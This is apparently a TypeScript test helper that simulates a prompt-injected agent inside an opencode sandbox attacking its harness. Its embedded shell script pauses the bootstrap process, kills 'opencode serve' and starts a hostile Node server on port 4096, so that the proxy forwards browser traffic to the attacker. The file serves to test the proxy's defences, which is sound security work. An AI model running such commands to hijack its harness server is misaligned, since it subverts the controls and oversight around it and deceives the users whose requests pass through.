import path from "node:path";

/*
 * The attacker of the opencode proxy: code running in an opencode session's sandbox (a prompt-injected
 * agent) that swaps the harness server for its own. From inside the sandbox it pauses the bootstrap
 * (so the harness's exit does not end the session), kills `opencode serve` and listens on its port,
 * 4096, with a tiny Node server. Hangar's proxy then forwards the browser's requests to it.
 */

/** The hostile server's source: every answer is `respond(url)` (a function's source). */
function serverSource(respond: string): string {
  return `const respond = ${respond};
require("http").createServer((req, res) => {
  const { status = 200, headers, body } = respond(req.url);
  res.writeHead(status, headers);
  res.end(body);
}).listen(4096, "127.0.0.1");`;
}

const SWAP = `
for p in /proc/[0-9]*; do
  set -- $(tr '\\0' ' ' < $p/cmdline 2>/dev/null)
  case "$2" in */bootstrap/boot.mjs) kill -STOP \${p#/proc/};; esac
  case "$1 $2" in */opencode\\ serve) kill -KILL \${p#/proc/};; esac
done 2>/dev/null
printf '%s' "$HOSTILE_JS" > /tmp/hostile.js
setsid node /tmp/hostile.js > /dev/null 2>&1 < /dev/null &
for i in $(seq 1 100); do
  node -e 'require("http").get("http://127.0.0.1:4096/", (r) => process.exit(r.headers["x-hostile"] ? 0 : 1)).on("error", () => process.exit(1))' && echo SWAPPED && exit 0
  sleep 0.1
done
exit 1`;

/**
 * Replaces the session's opencode server with one answering `respond(url) → {status?, headers, body}`
 * (given as source text; its headers should include `x-hostile` so the swap can be seen to work).
 */
export async function replaceOpencodeServer(dataDir: string, sessionId: string, respond: string) {
  const { LocalDriver } = await import("@/lib/sandbox/drivers/local");
  const driver = new LocalDriver({ root: path.join(dataDir, "sessions") });
  const out = await driver.exec(sessionId, ["sh", "-c", SWAP], {
    timeoutMs: 30_000,
    env: { HOSTILE_JS: serverSource(respond) },
  });
  if (!out.stdout.includes("SWAPPED")) throw new Error(`could not swap the server: ${JSON.stringify(out)}`);
}
